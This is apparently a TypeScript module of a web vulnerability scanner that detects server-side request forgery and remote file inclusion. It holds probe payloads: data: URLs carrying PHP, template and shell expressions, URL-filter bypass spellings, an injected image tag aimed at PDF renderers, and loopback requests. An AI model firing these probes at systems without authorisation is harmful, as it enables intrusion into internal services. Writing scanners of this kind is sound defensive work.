import type { Exchange } from '@rocca/tools/web/model';
import { cweReference, scored } from '../../core/definition.ts';
import { type OutputPayload, type Product, showsOutput } from '../attack/output.ts';
import { textOf } from '../attack/similar.ts';
import { depthWhereStored } from '../attack/storing.ts';
import { type Answer, control, proof, repeat, Trial } from '../attack/trial.ts';
import { askedOnce } from '../attack/usual.ts';
import type { AttackTools, Listener, PointCheck, WebDefinition, WebSighting } from '../check.ts';
import type { InjectionPoint } from '../crawl/point.ts';
import { filled } from '../evidence.ts';

const SSRF: WebDefinition = {
  key: 'ssrf',
  family: 'Server requests',
  name: {
    it: 'Server-Side Request Forgery (SSRF)',
    en: 'Server-side request forgery (SSRF)',
  },
  description: {
    it: 'Il server apre l’indirizzo che riceve in un parametro. Chi lo invia raggiunge attraverso di lui sistemi interni e servizi del fornitore cloud che da fuori non si vedono, e può leggerne le risposte.',
    en: 'The server requests the URL that it receives in a parameter. Through it an attacker can reach internal systems and services of the cloud provider that cannot be reached from outside, and may read their responses.',
  },
  solution: {
    it: 'Accettare soltanto indirizzi di un elenco. Dove devono essere liberi, risolvere il nome una volta, rifiutare gli indirizzi interni e di loopback, non seguire i redirect e far uscire le richieste da una rete separata.',
    en: 'Accept only URLs on a list. Where they must be free, resolve the name once, reject internal and loopback addresses, follow no redirects and send the requests from a separate network.',
  },
  scores: scored(['AV:N/AC:L/Au:N/C:P/I:P/A:N', 6.4], ['AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:N/A:N', 8.6]),
  cves: [],
  cwes: ['CWE-918'],
  owasp: { y2021: 'A10:2021', y2025: 'A01:2025' },
  references: [
    cweReference(918),
    {
      id: 'OWASP SSRF Prevention',
      link: 'https://cheatsheetseries.owasp.org/cheatsheets/Server_Side_Request_Forgery_Prevention_Cheat_Sheet.html',
    },
  ],
};

const INCLUSION: WebDefinition = {
  key: 'remote-inclusion',
  family: 'Files',
  name: { it: 'Inclusione di codice remoto', en: 'Remote file inclusion' },
  description: {
    it: 'L’applicazione include ed esegue come codice ciò che un parametro indica. Chi lo invia esegue codice proprio sul server.',
    en: 'The application includes and executes as code what a parameter points to. Whoever sends it runs code of their own on the server.',
  },
  solution: {
    it: 'Includere soltanto file di un elenco fisso, scelti per chiave. In PHP disattivare «allow_url_include».',
    en: 'Include files of a fixed list only, chosen by a key. In PHP switch “allow_url_include” off.',
  },
  scores: scored(['AV:N/AC:L/Au:N/C:C/I:C/A:C', 10], ['AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H', 9.8]),
  cves: [],
  cwes: ['CWE-98'],
  owasp: { y2021: 'A03:2021', y2025: 'A05:2025' },
  references: [cweReference(98)],
};

const INCLUDED: readonly OutputPayload[] = [
  {
    context: { it: 'un indirizzo data:', en: 'a data address' },
    spell: ({ a, b, left, right }) => `data:text/plain,<?php echo '${left}'.(${a}*${b}).'${right}';?>`,
  },
  {
    context: { it: 'un indirizzo data: in base64', en: 'a data address in base64' },
    spell: ({ a, b, left, right }) =>
      `data:text/plain;base64,${Buffer.from(`<?php echo '${left}'.(${a}*${b}).'${right}';?>`).toString('base64')}`,
  },
];

/** Documents that a program which runs what it fetched makes a product of, and one that shows it does not. */
const FETCHED: ReadonlyArray<readonly [language: string, document: (product: Product) => string]> = [
  ['PHP', ({ a, b, left, right }) => `<?php echo '${left}'.(${a}*${b}).'${right}';?>`],
  ['Python, Ruby', ({ a, b, left, right }) => `'${left}%d${right}'%(${a}*${b})`],
  ['JavaScript', ({ a, b, left, right }) => `'${left}'+(${a}*${b})+'${right}'`],
  ['shell', ({ a, b, left, right }) => `echo ${left}$((${a}*${b}))${right}`],
  [
    'template',
    ({ a, b, left, right }) =>
      ['{{X}}', `\${X}`, '<%= X %>', '#{X}'].map((form) => left + form.replace('X', `${a}*${b}`) + right).join(' '),
  ],
];

const NAMED_AS_ADDRESS =
  /url|uri|link|src|source|href|addr|indirizz|host|server|site|sito|domain|domini|feed|rss|proxy|fetch|load|callback|hook|redirect|avvis|notif|dest|target|img|image|avatar|file|path|page|include|inc\b|template|doc|import|endpoint|api|remote|preview|content|xml|wsdl|data/i;

/** What pages take by their address as well as from a file: one request tells. */
const MAY_BE_TAKEN =
  /logo|icon|pic(?!k)|photo|foto|bild|thumb|banner|cover|media|resource|risors|webhook|report|quell|font[ei]/i;

const looksLikeAddress = (value: string) =>
  /^(?:https?:)?\/\/|^www\.|\.[a-z]{2,6}$|^[\w-]+\.(?:html?|php|jsp|aspx?|xml|json)$/i.test(value);

/** Values that hardly are anything else. */
const isSurelyAddress = ({ name, value }: InjectionPoint) =>
  /^(?:https?:)?\/\//i.test(value) ||
  /(?:^|[_-])(?:url|uri|feed|proxy|fetch|endpoint|webhook|remote|site)$/i.test(name);

/** For who fetches while we wait for the answer, and for who fetches a little later. */
const AT_ONCE_MS = 50;
const HEARD_MS = 700;
/** Who has fetched one, later than its answer perhaps, fetches another. */
const SURELY_HEARD_MS = 5_000;
const LOW_SPELLINGS = 3;

/** Addresses that pass where the value must begin or end in some way; first where the protocol is given, or refused. */
function spellings(url: string, value: string): readonly string[] {
  const bare = url.replace(/^https?:/, '');
  const ending = /\.[A-Za-z0-9]{1,5}$/.exec(value)?.[0] ?? '';
  return [
    ...[url, bare.slice(2), `HtTp:${bare}`, ...besideUsual(bare, value)],
    ...[bare, `${url}?${ending}`, `${url}#${ending}`, withNumber(url)],
  ];
}

/**
 * What stands before @ is a name, and the machine stands behind it: for who writes the machine himself before a path, and
 * for who looks how the address begins, how it ends, or whether it holds the name of a machine.
 */
function besideUsual(bare: string, value: string): readonly string[] {
  if (/^\/(?!\/)/.test(value)) return [`@${bare.slice(2)}`];
  const [, scheme, machine] = /^(https?:)\/\/([^/?#@\s]+)/i.exec(value) ?? [];
  return machine === undefined ? [] : [`${scheme}//${machine}@${bare.slice(2)}?${value}`];
}

/** Where dots are refused, a machine has a number as well. */
const withNumber = (url: string) =>
  url.replace(/(?<=\/\/)(\d+)\.(\d+)\.(\d+)\.(\d+)/, (_, ...parts) =>
    String(parts.slice(0, 4).reduce((sum: number, part) => sum * 256 + Number(part), 0)),
  );

interface Asked {
  readonly spelling: number;
  readonly answer: Answer;
  readonly url: string;
  readonly token: string;
}

async function askFor(trial: Trial, listener: Listener, spelling: number): Promise<Asked> {
  const token = trial.tools.token();
  const url = spellings(listener.urlFor(token), trial.point.value)[spelling] ?? '';
  return { spelling, token, url, answer: await trial.send(url, { timeoutMs: 10_000 }) };
}

/** The usual spelling, asked once: who fetches it does so before the answer, or later. */
const firstAsked = askedOnce(async (point, tools): Promise<Asked | null> => {
  const trial = await Trial.begin(point, tools);
  return trial && tools.listener ? askFor(trial, tools.listener, 0) : null;
});

/** The first that our listener was asked for, within the time for all of them together. */
async function heardOf(listener: Listener, asked: readonly Asked[], waitMs: number) {
  const heard = await Promise.all(
    asked.map(async (one) => {
      const call = await listener.heard(one.token, waitMs);
      return call && { ...one, from: call.from };
    }),
  );
  return heard.find((one) => one !== null) ?? null;
}

/** What our listener answers is run: the result of its sum is shown, which stands nowhere in it. */
async function runsFetched(trial: Trial, listener: Listener, spelling: number): Promise<WebSighting | null> {
  for (const [context, document] of FETCHED) {
    const spell = (product: Product) =>
      spellings(listener.urlFor(trial.tools.token(), document(product)), trial.point.value)[spelling] ?? '';
    const seen = await showsOutput(trial, { context, spell });
    if (!seen) continue;
    const evidence = filled(
      {
        it: 'Il server scarica l’indirizzo in questo parametro ed esegue ciò che riceve ({context}): per {value} il nostro listener ha risposto con un calcolo, e la pagina ne mostra il risultato “{shown}”.',
        en: 'The server fetches the address in this parameter and runs what it gets ({context}): for {value} our listener answered with a sum, and the page shows its result “{shown}”.',
      },
      { context, value: seen.first.value, shown: seen.shown },
    );
    return trial.sighting(INCLUSION.key, evidence, seen.messages);
  }
  return null;
}

/** Our listener was asked: once more with another address. */
async function confirmHeard(
  trial: Trial,
  listener: Listener,
  first: Asked & { readonly from: string },
): Promise<WebSighting | null> {
  const again = await askFor(trial, listener, first.spelling);
  if (!(await listener.heard(again.token, SURELY_HEARD_MS))) return null;
  const run = await runsFetched(trial, listener, first.spelling);
  if (run) return run;
  // What was never sent is never asked for: our listener knows each token from one request alone.
  const evidence = filled(
    {
      it: 'Il server ha chiesto {url} al nostro ascoltatore (da {from}) dopo averlo ricevuto in questo parametro, e di nuovo per un altro indirizzo.',
      en: 'The server asked our listener for {url} (from {from}) after it was sent in this parameter, and again for another address.',
    },
    { url: first.url, from: first.from },
  );
  return trial.sighting(SSRF.key, evidence, [
    proof(first.answer, first.url),
    repeat(again.answer, again.url),
    control(trial.other),
  ]);
}

/** Lines of the site's own first page that this page does not show. */
function ownLines(text: string, elsewhere: string): readonly string[] {
  const lines = text
    .slice(0, 200_000)
    // Some pages are one line.
    .split(/\n|(?<=>)(?=<)/)
    .map((line) => line.trim());
  return lines.filter((line) => line.length >= 12 && line.length <= 300 && !elsewhere.includes(line)).slice(0, 40);
}

const homes = new WeakMap<AttackTools, Promise<Exchange>>();

/** The first page of the site, asked once. */
function homeOf(tools: AttackTools, origin: string): Promise<Exchange> {
  const known = homes.get(tools) ?? tools.request({ method: 'GET', url: `${origin}/`, headers: [], body: null });
  homes.set(tools, known);
  return known;
}

/** The site as it is named, and as its own machine reaches it. */
function ownOrigins(origin: string): readonly string[] {
  const { protocol, port } = new URL(origin);
  return [...new Set([origin, `${protocol}//127.0.0.1${port === '' ? '' : `:${port}`}`])];
}

/** Without being heard: the site is asked to fetch its own first page, which is known. */
async function showsOwnPage(trial: Trial): Promise<WebSighting | null> {
  const own = new URL(trial.point.request.url).origin;
  const home = await homeOf(trial.tools, own);
  if (home.response?.status !== 200) return null;
  const lines = ownLines(textOf(home), trial.control.text + trial.other.text);
  if (lines.length < 3) return null;
  const shownIn = (text: string) => lines.filter((line) => text.includes(line)).length >= lines.length * 0.8;
  const fetched = async (origin: string) => {
    const answer = await trial.send(`${origin}/`, { timeoutMs: 10_000 });
    return answer.exchange.response?.status === 200 && shownIn(answer.text) ? { origin, first: answer } : null;
  };
  const [named, byItself] = ownOrigins(own);
  const seen = (named && (await fetched(named))) ?? (byItself === undefined ? null : await fetched(byItself));
  if (!seen) return null;
  const { origin, first } = seen;
  const missing = await trial.send(`${origin}/${trial.tools.token()}`, { timeoutMs: 10_000 });
  if (shownIn(missing.text)) return null;
  const again = await trial.send(`${origin}/?${trial.tools.token()}`, { timeoutMs: 10_000 });
  if (!shownIn(again.text)) return null;
  const evidence = filled(
    {
      it: 'Il server scarica l’indirizzo in questo parametro e mostra ciò che ha ricevuto: la propria prima pagina per {origin}/, e non per un indirizzo senza pagina.',
      en: 'The server fetches the address in this parameter and shows what it got: its own first page for {origin}/, and not for an address without a page.',
    },
    { origin },
  );
  return trial.sighting(SSRF.key, evidence, [proof(first, lines[0] ?? ''), control(missing), repeat(again)]);
}

const TEXT_KINDS = new Set(['query', 'form', 'multipart', 'json']);
const isLikely = ({ name, value }: InjectionPoint) => NAMED_AS_ADDRESS.test(name) || looksLikeAddress(value);

const isPdf = ({ response }: Exchange) => response?.body.subarray(0, 5).toString('latin1') === '%PDF-';

/** A document that is made of what was sent: a picture in it is fetched by the server that makes it. */
async function rendersMarkup(trial: Trial): Promise<readonly WebSighting[]> {
  const { listener } = trial.tools;
  if (!listener || !isPdf(trial.control.exchange)) return [];
  const ask = async () => {
    const token = trial.tools.token();
    const url = listener.urlFor(token);
    const answer = await trial.send(`${trial.point.value}<img src="${url}">`, { timeoutMs: 10_000 });
    const heard = await listener.heard(token, HEARD_MS);
    return heard && { answer, url, from: heard.from };
  };
  const first = await ask();
  const again = first && (await ask());
  if (!again) return [];
  const evidence = filled(
    {
      it: 'Il server che crea il documento PDF apre gli indirizzi scritti nel testo ricevuto: ha chiesto {url} al nostro listener (da {from}) per un’immagine, e di nuovo per un’altra.',
      en: 'The server that makes the PDF document opens addresses in the text it is sent: it asked our listener for {url} (from {from}) as a picture, and again for another one.',
    },
    { url: first.url, from: first.from },
  );
  return [
    trial.sighting(SSRF.key, evidence, [
      proof(first.answer, first.url),
      repeat(again.answer, again.url),
      control(trial.other),
    ]),
  ];
}

export const remoteInclusion = {
  code: 'remote_inclusion',
  name: { it: 'Inclusione remota e SSRF', en: 'Remote inclusion and SSRF' },
  kind: 'point',
  from: 'low',
  definitions: [INCLUSION, SSRF],
  wants: (point) => isLikely(point) || MAY_BE_TAKEN.test(point.name) || TEXT_KINDS.has(point.kind),
  async attack(point, tools) {
    const trial = await Trial.begin(point, tools, depthWhereStored(point, tools));
    if (!trial) return [];
    const ofMarkup = await rendersMarkup(trial);
    if (ofMarkup.length > 0 || (!isLikely(point) && !MAY_BE_TAKEN.test(point.name))) return ofMarkup;
    const mayInclude = looksLikeAddress(point.value) || (isLikely(point) && trial.atLeast('default'));
    for (const payload of mayInclude ? trial.within(INCLUDED) : []) {
      const seen = await showsOutput(trial, payload);
      if (!seen) continue;
      const evidence = filled(
        {
          it: 'Il codice in {context} viene eseguito: “{value}” riceve la risposta “{shown}”.',
          en: 'Code in {context} is executed: “{value}” is answered with “{shown}”.',
        },
        { context: payload.context, value: seen.first.value, shown: seen.shown },
      );
      return [trial.sighting(INCLUSION.key, evidence, seen.messages)];
    }
    const first = await firstAsked(point, tools);
    const heard = first && tools.listener && (await heardOf(tools.listener, [first], AT_ONCE_MS));
    if (heard && tools.listener) {
      const found = await confirmHeard(trial, tools.listener, heard);
      return found ? [found] : [];
    }
    // Our listener may not be reached from there, though it is from here.
    const mayShow = !tools.listener || trial.atLeast('high') || isSurelyAddress(point);
    const found = mayShow && isLikely(point) ? await showsOwnPage(trial) : null;
    return found ? [found] : [];
  },
  async waitFor(point, tools) {
    const { listener } = tools;
    if (!isLikely(point) && !MAY_BE_TAKEN.test(point.name)) return [];
    const trial = listener && (await Trial.begin(point, tools, depthWhereStored(point, tools)));
    const first = await firstAsked(point, tools);
    if (!trial || !first) return [];
    const all = spellings('', point.value).slice(0, isSurelyAddress(point) ? undefined : -1);
    const count = isLikely(point) ? trial.within(all).length : 1;
    const asked = [first];
    for (let spelling = 1; spelling < (trial.atLeast('default') ? count : Math.min(count, LOW_SPELLINGS)); spelling++)
      asked.push(await askFor(trial, listener, spelling));
    const heard = await heardOf(listener, asked, HEARD_MS);
    const found = heard && (await confirmHeard(trial, listener, heard));
    return found ? [found] : [];
  },
} as const satisfies PointCheck;
